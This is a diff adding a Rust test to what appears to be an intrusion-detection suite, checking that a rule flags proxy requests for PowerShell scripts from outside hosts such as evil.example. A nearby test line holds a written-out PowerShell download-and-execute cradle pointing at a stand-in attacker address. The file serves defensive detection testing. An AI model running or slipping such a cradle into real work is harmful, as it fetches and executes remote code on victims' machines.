@@ -100,6 +100,27 @@ fn hosts_inside_and_trusted_ones_are_silent_and_a_refusal_is_an_attempt() {
 }
 
 #[test]
+fn a_proxy_inside_is_asked_for_what_lies_outside() {
+    let ask = |host: &str, target: &str| {
+        let mut flow = outside();
+        flow.server = Endpoint::new("10.20.30.8".parse().unwrap(), 3_128);
+        sids(&fetch(&mut flow, host, target, "", 200, SCRIPT.as_bytes()))
+    };
+    for (host, benign) in [
+        ("203.0.113.7", "10.20.30.99"),
+        ("evil.example", "deploy.corp.local"),
+        ("cdn.evil.example.", "deploy"),
+        ("[2001:db8::7]", "[fd00::7]"),
+        ("evil.home.example", "deploy.home.arpa"),
+        ("local.example", "download.windowsupdate.com"),
+    ] {
+        assert_eq!(ask(host, &format!("http://{host}/a.ps1")), [9_404_007], "{host}");
+        assert!(ask(benign, &format!("http://{benign}/a.ps1")).is_empty(), "{benign}");
+        assert!(ask(host, "/a.ps1").is_empty(), "no proxy: {host}");
+    }
+}
+
+#[test]
 fn a_cradle_in_a_body_is_told_and_a_page_that_shows_it_is_not() {
     let line = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/next')";
     let found = fetch(&mut outside(), "h", "/next", "", 200, line.as_bytes());
